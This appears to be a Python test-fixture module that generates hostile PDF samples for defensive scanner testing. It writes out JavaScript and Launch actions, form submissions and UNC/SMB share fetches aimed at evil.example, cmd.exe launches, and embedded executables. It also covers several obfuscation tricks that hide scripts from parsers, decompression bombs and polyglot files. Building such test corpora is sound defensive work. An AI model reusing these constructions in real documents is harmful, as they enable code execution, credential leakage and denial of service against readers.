"""Hostile PDFs: what acts, where it hides, what is inside, what breaks readers."""
# ruff: noqa: E501 - a piece of a file format is shown as it stands in the file

import base64
import io
import random
import zlib
from collections.abc import Iterator

from pypdf import PdfReader, PdfWriter

from tests.hostile_files import pdf_bytes
from tests.hostile_files.honest_others import zipped
from tests.hostile_files.hostile_archives import PROGRAM
from tests.hostile_files.pdf_bytes import append, objects, stream, write, write_packed

Files = Iterator[tuple[str, bytes]]
JS = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"


def hexed(rng: random.Random, name: bytes) -> bytes:
    """Spell a name with #-signs."""
    return b"/" + b"".join(
        b"#%02x" % sign if rng.random() < 0.6 or at == 0 else bytes([sign]) for at, sign in enumerate(name)
    )


def scripts(rng: random.Random) -> Files:
    """JavaScript wherever it can stand."""
    yield "open.pdf", write(objects(b"/OpenAction " + JS))
    yield "open-by-reference.pdf", write(objects(b"/OpenAction 6 0 R", more={6: JS}))
    yield "named.pdf", write(objects(b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more={6: JS}))
    yield "page.pdf", write(objects(page=b"/AA << /O " + JS + b" >>"))
    yield "closing.pdf", write(objects(b"/AA << /WC 6 0 R >>", more={6: JS}))
    yield "note.pdf", write(objects(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>]", more={6: JS}))
    yield (
        "field.pdf",
        write(objects(b"/AcroForm << /Fields [6 0 R] >>", more={6: b"<< /FT /Tx /T (a) /AA << /K 7 0 R >> >>", 7: JS})),
    )
    yield (
        "next.pdf",
        write(
            objects(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next 6 0 R >>] >>",
                more={6: JS},
            )
        ),
    )
    yield (
        "stream.pdf",
        write(objects(b"/OpenAction << /S /JavaScript /JS 6 0 R >>", more={6: stream(b"app.alert(1)", packed=True)})),
    )
    yield (
        "bookmark.pdf",
        write(
            objects(
                b"/Outlines 6 0 R",
                more={6: b"<< /First 7 0 R /Last 7 0 R >>", 7: b"<< /Title (x) /Parent 6 0 R /A " + JS + b" >>"},
            )
        ),
    )


def hidden_scripts(rng: random.Random) -> Files:
    """The same, hidden from careless readers."""
    spelled = b"<< /S %s %s (app.alert\\(1\\)) >>" % (hexed(rng, b"JavaScript"), hexed(rng, b"JS"))
    yield "hex-names.pdf", write(objects(hexed(rng, b"OpenAction") + b" " + spelled))
    yield "packed.pdf", write_packed(objects(b"/OpenAction 6 0 R", more={6: JS}))
    yield "packed-hex.pdf", write_packed(objects(b"/OpenAction 6 0 R", more={6: spelled}), filters=("Flate", "Hex"))
    yield (
        "packed-twice.pdf",
        write_packed(objects(b"/OpenAction 6 0 R", more={6: JS}), filters=("Flate", "Flate", "Hex")),
    )
    yield "objstm-hex.pdf", write_packed(objects(b"/OpenAction 6 0 R", more={6: JS}), objstm=b"/Type /Obj#53tm")
    yield "revision.pdf", append(write(objects()), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>"})
    yield "old-revision.pdf", append(write(objects(b"/OpenAction " + JS)), {1: b"<< /Type /Catalog /Pages 2 0 R >>"})
    yield (
        "no-table.pdf",
        b"%PDF-1.4\n"
        + b"".join(b"%d 0 obj\n%s\nendobj\n" % one for one in objects(b"/OpenAction " + JS).items())
        + b"trailer << /Root 1 0 R >>\n",
    )
    yield "wrong-table.pdf", write(objects(b"/OpenAction " + JS)).replace(b"startxref\n", b"startxref\n9")
    inner = b"BT ET\n9 0 obj " + JS + b" endobj\n"
    yield "in-content.pdf", write(objects(b"/OpenAction 9 0 R", more={4: stream(inner)}))
    yield "comment.pdf", write(objects(b"/OpenAction 6 0 R", more={6: b"<< /S % >> endobj\n /JavaScript /JS (x) >>"}))
    yield (
        "string-end.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< /T (>>\nstream\n) /S /JavaScript /JS (x) >>"})),
    )
    yield (
        "decoy.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< /T (7 0 obj) /X (\\)8 0 obj <<) /S /JavaScript /JS (x) >>"})),
    )
    yield "indirect-kind.pdf", write(objects(b"/OpenAction << /S 6 0 R /JS (x) >>", more={6: b"/JavaScript"}))
    yield (
        "in-trailer.pdf",
        write(
            {2: objects()[2], 3: objects()[3], 4: objects()[4], 5: pdf_bytes.FONT},
            trailer=b"/Root << /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>",
        ),
    )
    yield "twice-a-key.pdf", write(objects(b"/OpenAction [3 0 R /Fit] /OpenAction " + JS))
    yield "no-spaces.pdf", write(objects(b"/OpenAction<</S/JavaScript/JS<6170702E616C65727428312929>>>"))
    yield "nul-between.pdf", write(objects(b"/OpenAction\0<<\0/S\0/JavaScript\0/JS\0(x)>>"))
    yield (
        "commented-share.pdf",
        write(objects(page=b"/Annots [<< /A << /S %x\n /GoToR /F%y\n%z\r(\\\\\\\\evil\\\\s) >> >>]")),
    )
    yield "hex-key.pdf", write(objects(b"/OpenAction 6 0 R", more={6: b"<</#53/#4aavaScript/J#53(x)>>"}))


def decoys(rng: random.Random) -> Files:
    """Heads of objects in strings and comments, long padding, other packings of object streams."""
    heads = b" ".join(b"%d 0 obj" % number for number in range(20, 20 + rng.randint(5, 60)))
    yield (
        "many-heads.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< /T (" + heads + b") /S /JavaScript /JS (x) >>"})),
    )
    yield (
        "heads-in-comment.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< %" + heads + b"\n /S /JavaScript /JS (x) >>"})),
    )
    yield (
        "opening-heads.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< %" + heads + b" (\n /S /JavaScript /JS (x) >>"})),
    )
    yield (
        "padding.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< /T (" + b"x" * (2 << 20) + b") /S /JavaScript /JS (x) >>"})),
    )
    yield (
        "comment-padding.pdf",
        write(objects(b"/OpenAction 6 0 R", more={6: b"<< %" + b"x" * (2 << 20) + b"\n /S /JavaScript /JS (x) >>"})),
    )
    yield (
        "leading-zeros.pdf",
        write(objects(b"/OpenAction 6 0 R")).replace(b"5 0 obj", b"0000000000006 0 obj " + JS + b" endobj 5 0 obj"),
    )
    content = b"6 0 " + JS
    for name, filters, raw in (
        ("a85", b"/ASCII85Decode", base64.a85encode(content) + b"~>"),
        (
            "runs",
            b"/RunLengthDecode",
            b"".join(
                bytes([len(piece) - 1]) + piece
                for piece in (content[at : at + 100] for at in range(0, len(content), 100))
            )
            + b"\x80",
        ),
        ("short-names", b"[/AHx /Fl]", zlib.compress(content).hex().encode() + b">"),
        ("by-reference", b"7 0 R", zlib.compress(content)),
        (
            "predicted",
            b"/FlateDecode /DecodeParms << /Predictor 12 /Columns %d >>" % len(content),
            zlib.compress(b"\2" + content),
        ),
    ):
        holder = b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter %s >>\nstream\n%s\nendstream" % (
            len(raw),
            filters,
            raw,
        )
        yield f"objects-{name}.pdf", write(objects(b"/OpenAction 6 0 R", more={7: b"/FlateDecode", 8: holder}))
        yield (
            f"objects-{name}-untyped.pdf",
            write(
                objects(
                    b"/OpenAction 6 0 R",
                    more={7: b"/FlateDecode", 8: holder.replace(b"/Type /ObjStm", b"/X (9 0 obj)")},
                )
            ),
        )


def actions(rng: random.Random) -> Files:
    """Other actions that run, send or fetch."""
    for name, action in (
        ("launch", b"<< /S /Launch /F (cmd.exe) >>"), ("launch-win", b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), ("submit", b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>"),
        ("import", b"<< /S /ImportData /F (x.fdf) >>"), ("gotor-share", b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\a.pdf) /D [0 /Fit] >>"), ("gotoe-share", b"<< /S /GoToE /F (//evil.example/s) /D [0 /Fit] >>"),
        ("uri-script", b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), ("uri-file", b"<< /S /URI /URI (file://evil.example/s/a.exe) >>"), ("gotor-url", b"<< /S /GoToR /F << /FS /URL /F (http://evil.example/a.pdf) >> >>"),
        ("uri-smb", b"<< /S /URI /URI (smb://evil.example/s) >>"), ("gotor-hex", b"<< /S /GoToR /F <5C5C6576696C5C73> >>"), ("gotor-utf16", b"<< /S /GoToR /F << /UF <FEFF005C005C006500760069006C005C0073> >> >>"),
        ("rendition", b"<< /S /Rendition /OP 0 /JS (x) >>"), ("msdt", b"<< /S /URI /URI (ms-msdt:/id x) >>"),
    ):  # fmt: skip
        yield f"{name}.pdf", write(objects(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>]"))
        yield (
            f"{name}-packed.pdf",
            write_packed(objects(page=b"/Annots [6 0 R]", more={6: b"<< /Subtype /Link /A 7 0 R >>", 7: action})),
        )
    yield "open-uri.pdf", write(objects(b"/OpenAction << /S /URI /URI (http://evil.example) >>"))
    yield "page-uri.pdf", write(objects(page=b"/AA << /O << /S /URI /URI (http://evil.example) >> >>"))
    yield "flash.pdf", write(objects(page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]"))
    xfa = b'<xdp:xdp xmlns:xdp="x"><template><field><event><script contentType="application/x-javascript">x</script></event></field></template></xdp:xdp>'
    yield "xfa.pdf", write(objects(b"/AcroForm << /XFA 6 0 R >>", more={6: stream(xfa, packed=True)}))
    yield (
        "xfa-pieces.pdf",
        write(
            objects(
                b"/AcroForm << /XFA [(preamble) 6 0 R (template) 7 0 R] >>",
                more={6: stream(b"<a/>"), 7: stream(xfa, packed=True)},
            )
        ),
    )
    yield (
        "outside-stream.pdf",
        write(objects(more={4: b"<< /Length 0 /F (\\\\\\\\evil.example\\\\s\\\\a) >>\nstream\n\nendstream"})),
    )


def attached(rng: random.Random) -> Files:
    """Files inside."""

    def holding(name: bytes, content: bytes, *, listed: bool = True, kind: bytes = b"/Type /EmbeddedFile") -> bytes:
        names = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>" if listed else b""
        return write(
            objects(
                names,
                more={
                    6: b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>" % (name, name),
                    7: stream(content, kind, packed=True),
                },
            )
        )

    yield "program.pdf", holding(b"setup.exe", PROGRAM)
    yield "program-as-text.pdf", holding(b"a.txt", PROGRAM)
    yield "unlisted.pdf", holding(b"a.txt", PROGRAM, listed=False)
    yield "untyped.pdf", holding(b"a.txt", PROGRAM, kind=b"")
    yield "script.pdf", holding(b"x.js", b"WScript.Echo(1)")
    yield "document.pdf", holding(b"x.docm", zipped({"[Content_Types].xml": b"<a/>"}))
    yield "archive.pdf", holding(b"x.zip", zipped({"../x": b"1"}))
    yield "pdf-in-pdf.pdf", holding(b"in.pdf", write(objects(b"/OpenAction " + JS)))
    yield (
        "note.pdf",
        write(
            objects(
                page=b"/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 6 0 R >> >> >>]",
                more={6: stream(PROGRAM)},
            )
        ),
    )


def locked(rng: random.Random) -> Files:
    """Sealed by a password."""
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        for user in ("secret", ""):
            writer = PdfWriter(clone_from=PdfReader(io.BytesIO(write(objects()))))
            writer.encrypt(user, "owner", algorithm=algorithm)
            out = io.BytesIO()
            writer.write(out)
            yield f"{algorithm}-{'user' if user else 'owner'}.pdf", out.getvalue()


def shapes(rng: random.Random) -> Files:
    """Bombs, circles, other data before and behind."""
    good = write(objects())
    zeros = zlib.compress(bytes(60 << 20))
    yield (
        "bomb.pdf",
        write(objects(more={4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(zeros), zeros)})),
    )
    twice = zlib.compress(zlib.compress(bytes(400 << 20)))
    yield (
        "bomb-twice.pdf",
        write(
            objects(
                more={
                    4: b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream"
                    % (len(twice), twice)
                }
            )
        ),
    )
    yield (
        "bomb-packed.pdf",
        write(
            objects(
                more={
                    6: b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream"
                    % (len(zeros) // 1, zeros)
                }
            )
        ),
    )
    yield "bomb-filters.pdf", write(objects(more={4: stream(b"x", b"/Filter [" + b"/FlateDecode " * 30 + b"]")}))
    yield (
        "picture-bomb.pdf",
        write(
            objects(
                more={
                    6: stream(
                        b"x" * 99,
                        b"/Subtype /Image /Width 90000 /Height 90000 /BitsPerComponent 8 /Filter /FlateDecode",
                    )
                }
            )
        ),
    )
    yield (
        "pages-circle.pdf",
        write(
            objects(
                more={
                    2: b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
                    6: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
                }
            )
        ),
    )
    circle = append(good, {5: pdf_bytes.FONT})
    last = circle.rfind(b"startxref")
    own = circle[last + 9 :].split()[0]
    yield (
        "table-circle.pdf",
        circle[: circle.rfind(b"/Prev")] + b"/Prev " + own + circle[circle.rfind(b" >>\nstartxref") :],
    )
    yield "not-at-start.pdf", b"GIF89a" + rng.randbytes(200) + good
    yield "text-before.pdf", b"<html><script>x</script>" + good
    yield "zip-behind.pdf", good + zipped({"a.txt": b"x"})
    yield "program-behind.pdf", good + PROGRAM
    yield "script-behind.pdf", good + b"\n<script>alert(1)</script>"
    yield "much-behind.pdf", good + rng.randbytes(5000)
    hidden = zipped({"a.txt": b"x"})
    yield "zip-in-stream.pdf", write(objects(more={6: stream(hidden[:-2] + b"\x40\0")}))[:0] + _zip_in_stream(hidden)
    yield "deep.pdf", write(objects(b"/X " + b"[" * 5000 + b"]" * 5000 + b" /OpenAction " + JS))


def _zip_in_stream(hidden: bytes) -> bytes:
    tail = (
        len(write(objects(more={6: stream(b"")})))
        - write(objects(more={6: stream(b"")})).find(b"endstream\nendobj\nxref")
        + 20
    )
    for comment in range(max(1, tail - 60), tail + 60):
        made = write(objects(more={6: stream(hidden[:-2] + comment.to_bytes(2, "little"))}))
        if made.rfind(b"PK\5\6") + 22 + comment == len(made):
            return made
    return made


MAKERS = (scripts, hidden_scripts, decoys, actions, attached, locked, shapes)
